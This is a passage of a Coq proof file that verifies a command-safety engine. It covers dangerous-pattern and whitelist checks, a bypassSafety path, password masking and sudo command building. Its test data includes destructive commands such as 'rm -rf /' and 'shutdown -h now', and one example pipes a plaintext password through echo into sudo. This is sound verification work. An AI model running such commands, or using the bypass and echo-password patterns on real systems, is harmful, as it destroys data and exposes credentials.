  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  eexists. eexists. split; [vm_compute; reflexivity|]. split; reflexivity.
Qed.

(** X10, witness: a pattern for [shutdown] added to the default registry. *)
Lemma added_dangerous_pattern_blocks_witness :
  let L' := fst (addPattern "dangerous" power_off default_registry) in
  isDangerousCommand L' "shutdown -h now" = true
  /\ In (added_pattern default_registry power_off)
        (dr_matches (isDangerous L' "shutdown -h now"))
  /\ forall other, isDangerousCommand default_registry other = true ->
                   isDangerousCommand L' other = true.
Proof.
  apply (@added_dangerous_pattern_blocks reference_engine power_off default_registry
           "shutdown -h now").
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
Defined.

(** X11, witness: the whitelist entry for deletions below /tmp. *)
Lemma added_whitelist_pattern_allows_witness :
  let L' := fst (addPattern "whitelisted" safe_tmp_directory default_registry) in
  isWhitelisted L' "rm -rf /tmp/cache" = true
  /\ isDangerousCommand L' "rm -rf /tmp/cache" = false
  /\ forall options,
       testCommand L' "rm -rf /tmp/cache" options
       = if truthy (json options)
         then CliJson (isDangerous L' "rm -rf /tmp/cache")
                      (isSuspicious L' "rm -rf /tmp/cache") true
         else CliLine CliWhitelisted.
Proof.
  apply (@added_whitelist_pattern_allows reference_engine safe_tmp_directory
           default_registry "rm -rf /tmp/cache").
  - vm_compute. reflexivity.
  - reflexivity.
  - vm_compute. reflexivity.
Defined.

(** X12, witness: [rm -rf /] with [bypassSafety] on a connected session. *)
Lemma dangerous_command_bypassed_witness :
  let w' := fst (executeCommand "rm -rf /" bypass_options connected_world) in
  snd (executeCommand "rm -rf /" bypass_options connected_world)
  = Pending (length (closures connected_world))
  /\ stdin w' = stdin connected_world ++ [("rm -rf /" ++ newline)%string]
  /\ commandHistory (session w')
     = commandHistory (session connected_world)
       ++ [mkCommandRecord "rm -rf /" (now connected_world) verdict_rm_rf_root true]
  /\ filter is_blocked (emitted w') = filter is_blocked (emitted connected_world)
  /\ pending_max (length (closures connected_world)) w' = true.
Proof.
  apply (@dangerous_command_bypassed reference_engine "rm -rf /" bypass_options
           connected_world verdict_rm_rf_root).
  - reflexivity.
  - vm_compute. reflexivity.
  - reflexivity.
  - left. reflexivity.
Defined.

(** X15, witness: the second of two commands in flight receives the chunk
    that answers the first. *)
Lemma chunk_reaches_every_attached_command_witness :
  exists c',
    nth_error (closures (on_stdout "root"
                           (run two_commands_trace (new_world default_registry)))) 1
    = Some c'
    /\ output c'
       = (if attached 1 (run two_commands_trace (new_world default_registry))
          then output pwd_closure ++ "root" else output pwd_closure)%string
    /\ commandCompleted c' = commandCompleted pwd_closure
    /\ (commandCompleted pwd_closure = true -> c' = pwd_closure).
Proof.
  apply (@chunk_reaches_every_attached_command reference_engine default_registry
           two_commands_trace "root" 1 pwd_closure).
  vm_compute. reflexivity.
Defined.

Example both_commands_accumulate :
  map output (closures (on_stdout "root"
                          (run two_commands_trace (new_world default_registry))))
  = ["root"; "root"].
Proof. vm_compute. reflexivity. Qed.

(** X18, witness: the result of the command completed by its idle timer. *)
Lemma results_are_faithful_witness :
  exists c,
    nth_error (closures (run idle_completion_trace (new_world default_registry))) 0
    = Some c
    /\ commandCompleted c = true
    /\ res_command listing_result = cl_command c
    /\ res_output listing_result = output c
    /\ res_analysis listing_result = cl_analysis c
    /\ (0 <= duration listing_result)%Z
    /\ In (mkCommandRecord (res_command listing_result) (startTime c)
             (res_analysis listing_result) true)
          (commandHistory (session (run idle_completion_trace
                                        (new_world default_registry)))).
Proof.
  apply (@results_are_faithful reference_engine default_registry idle_completion_trace
           0 listing_result).
  vm_compute. left. reflexivity.
Defined.

(** X19, witness: three chunks arrive 100, 300 and 700 ms after the
    command was sent; it completes 1200 ms after it was sent, not before,
    with the three chunks as its output. *)
Lemma output_quiescence_witness :
  resolved (advance 1199 (feed three_chunks
                            (fst (executeCommand "ls -la" no_options connected_world))))
  = []
  /\ resolved (advance 1200 (feed three_chunks
                               (fst (executeCommand "ls -la" no_options
                                       connected_world))))
     = [(0, mkResult "ls -la" "abc" 1200 verdict_ls)].
Proof.
  destruct (@output_quiescence reference_engine "ls -la" no_options connected_world
              verdict_ls 100%Z "a" [(300, "b"); (700, "c")]%Z) as [Hbefore Hat].
  - reflexivity.
  - vm_compute. reflexivity.
  - reflexivity.
  - reflexivity.
  - reflexivity.
  - vm_compute. split; [discriminate | reflexivity].
  - vm_compute. repeat split; discriminate.
  - split.
    + apply (Hbefore 1199%Z). vm_compute. split; [discriminate | reflexivity].
    + exact Hat.
Defined.

(** X20, witness: a password of thirteen characters. *)
Lemma maskPassword_shape_witness :
  String.length (maskPassword (Some "correct horse")) = String.length "correct horse"
  /\ String.get 0 (maskPassword (Some "correct horse")) = String.get 0 "correct horse"
  /\ String.get (String.length "correct horse" - 1) (maskPassword (Some "correct horse"))
     = String.get (String.length "correct horse" - 1) "correct horse"
  /\ forall i, 0 < i < String.length "correct horse" - 1 ->
               String.get i (maskPassword (Some "correct horse")) = Some "*"%char.
Proof.
  apply (@maskPassword_shape "correct horse"). simpl. lia.
Defined.

Example masks :
  maskPassword (Some "correct horse") = "c***********e"
  /\ maskPassword (Some "root") = "****"
  /\ maskPassword (Some EmptyString) = "none"
  /\ maskPassword None = "none"
  /\ maskPassword (Some (maskPassword None)) = "****"
  /\ password (sanitizeForLog sample_config) = Some "c***********e"
  /\ sudo_password (sanitizeForLog sample_config) = None.
Proof. vm_compute. repeat split. Qed.

(** X22, witness: a command without single quotes. *)
Lemma buildSudoCommand_quoting_witness :
  buildSudoCommand "systemctl restart nginx" None
  = "sudo sh -c 'systemctl restart nginx'".
Proof.
  destruct (buildSudoCommand_quoting "systemctl restart nginx") as (_ & _ & Hplain).
  apply Hplain. reflexivity.
Defined.

Example quoted_command :
  buildSudoCommand "echo 'hi'" None = "sudo sh -c 'echo '''hi''''"
  /\ buildSudoCommand "echo 'hi'" (Some EmptyString) = "sudo sh -c 'echo '''hi''''"
  /\ buildSudoCommand "ls" (Some "pw")
     = ("echo " ++ double_quote ++ "pw" ++ double_quote
        ++ " | sudo -S sh -c 'ls' 2>&1 | grep -v '[sudo] password'")%string.
Proof. vm_compute. repeat split. Qed.

(** X23, witness: a file below the web root. *)
Lemma suggested_owner_needs_sudo_witness :
  requiresSudo "/var/www/html/index.html" = true
  /\ owner (getSuggestedOwnership "/var/www/html/index.html") <> None.
Proof.
  destruct (suggested_owner_needs_sudo "/var/www/html/index.html") as (Hprefix & _ & _).
  apply Hprefix. right. reflexivity.
Defined.

Example suggested_ownerships :
  map (fun p => (owner (getSuggestedOwnership p), requiresSudo p))
      ["/etc/hosts"; "/var/www/html/index.html"; "/home/me/nginx/site.conf";
       "/var/log/syslog"; "/home/me/notes.txt"]
  = [(Some "root:root", true); (Some "www-data:www-data", true);
     (Some "root:root", false); (None, true); (None, false)].
Proof. vm_compute. reflexivity. Qed.

End EvaluationMore.
